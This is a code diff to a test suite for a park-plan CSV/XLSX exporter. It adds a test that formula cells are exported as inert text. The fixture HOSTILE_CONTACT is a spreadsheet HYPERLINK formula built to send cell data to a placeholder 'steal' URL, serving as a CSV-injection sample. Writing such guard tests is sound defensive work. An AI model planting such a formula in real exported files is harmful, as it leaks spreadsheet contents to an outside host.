@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { openProject } from '../../electron/store/project';
+import { formatMessage, isMessageKey } from '../../shared/messages/message';
 import { CLI_TIMEOUT, exportOk, gdalLayer, readGeoJson, writeDemo, type OurFeature } from './exportSupport';
 
 const dir = mkdtempSync(join(tmpdir(), 'parkplan-export-tables-'));
@@ -11,6 +12,8 @@ const project = join(dir, 'demo.gpkg');
 // A comma, quotes and a line break: what breaks a naive CSV writer.
 const HOSTILE_RESIDENT = 'ООО "Бумага, Картон и К°"';
 const HOSTILE_NOTE = 'Сервитут: ЛЭП 10 кВ,\r\nохранная зона «2 м»';
+// A formula a spreadsheet would run on opening (CSV injection).
+const HOSTILE_CONTACT = '=HYPERLINK("http://example.invalid/steal?"&A1,"Сайт")';
 let residentCount = 0;
 let allocationCount = 0;
 let ourPlots: OurFeature[] = [];
@@ -24,7 +27,7 @@ beforeAll(() => {
       const resident = allocated === undefined ? null : store.residents.get(allocated.residentId);
       const plot = allocated === undefined ? null : store.plots.get(allocated.plotId);
       if (resident === null || plot === null) throw new Error('the demo has no active allocation');
-      store.residents.update({ ...resident, name: HOSTILE_RESIDENT });
+      store.residents.update({ ...resident, name: HOSTILE_RESIDENT, contact: HOSTILE_CONTACT });
       store.plots.update({ ...plot, notes: HOSTILE_NOTE });
     });
     residentCount = store.residents.list().length;
@@ -37,12 +40,16 @@ beforeAll(() => {
 }, CLI_TIMEOUT);
 
 /** Each plot as GDAL read it matches our GeoJSON: code, status, resident and geodesic area. */
-function expectPlotRows(rows: readonly Record<string, unknown>[], keys: { code: string; status: string; resident: string; areaM2: string; areaHa: string }): void {
+function expectPlotRows(
+  rows: readonly Record<string, unknown>[],
+  keys: { code: string; status: string; resident: string; areaM2: string; areaHa: string },
+  statusWord: (status: unknown) => unknown = (status) => status,
+): void {
   expect(rows).toHaveLength(ourPlots.length);
   ourPlots.forEach((plot, index) => {
     const row = rows[index] ?? {};
     expect(row[keys.code]).toBe(plot.properties['code']);
-    expect(row[keys.status]).toBe(plot.properties['status']);
+    expect(row[keys.status]).toBe(statusWord(plot.properties['status']));
     expect(row[keys.resident] || null).toBe(plot.properties['residentName']);
     expect(Math.abs(Number(row[keys.areaM2]) - (plot.properties['areaM2'] as number))).toBeLessThanOrEqual(0.005);
     expect(Math.abs(Number(row[keys.areaHa]) - (plot.properties['areaHa'] as number))).toBeLessThanOrEqual(5e-7);
@@ -73,6 +80,15 @@ describe('parkplan export OUT.csv', () => {
     expect(allocations).toHaveLength(allocationCount);
   }, CLI_TIMEOUT);
 
+  it('keeps a formula in a cell as text (OWASP: a leading quote, the field quoted)', () => {
+    exportOk(project, join(dir, 'guarded.csv'), '--table', 'residents');
+    const text = readFileSync(join(dir, 'guarded.csv'), 'utf8');
+    expect(text).toContain(`"'${HOSTILE_CONTACT.replaceAll('"', '""')}"`);
+    expect(text).not.toMatch(/(^|[,\n])=HYPERLINK/);
+    const rows = gdalLayer(join(dir, 'guarded.csv'), 'guarded').map((feature) => feature.properties);
+    expect(rows.map((row) => row['contact'])).toContain(`'${HOSTILE_CONTACT}`);
+  }, CLI_TIMEOUT);
+
   it('with --table writes that one table to OUT.csv, and --park narrows it', () => {
     exportOk(project, join(dir, 'held.csv'), '--table', 'allocations', '--park', 'Рязанский');
     expect(existsSync(join(dir, 'held-residents.csv'))).toBe(false);
@@ -101,6 +117,10 @@ describe('parkplan export OUT.xlsx', () => {
       resident: 'Резидент',
       areaM2: 'Площадь, м² (геодезическая)',
       areaHa: 'Площадь, га (геодезическая)',
+    }, (status) => {
+      // The sheet's titles are Russian, and so are its values: «Инфраструктура», not 'infrastructure'.
+      const key = `tableValue.plotStatus.${String(status)}`;
+      return isMessageKey(key) ? formatMessage('ru', { key, params: {} }) : status;
     });
     expect(typeof plots[0]?.['Площадь, м² (геодезическая)']).toBe('number');
     expect(plots.map((row) => row['Примечания'])).toContain(HOSTILE_NOTE.replace('\r\n', '\n'));
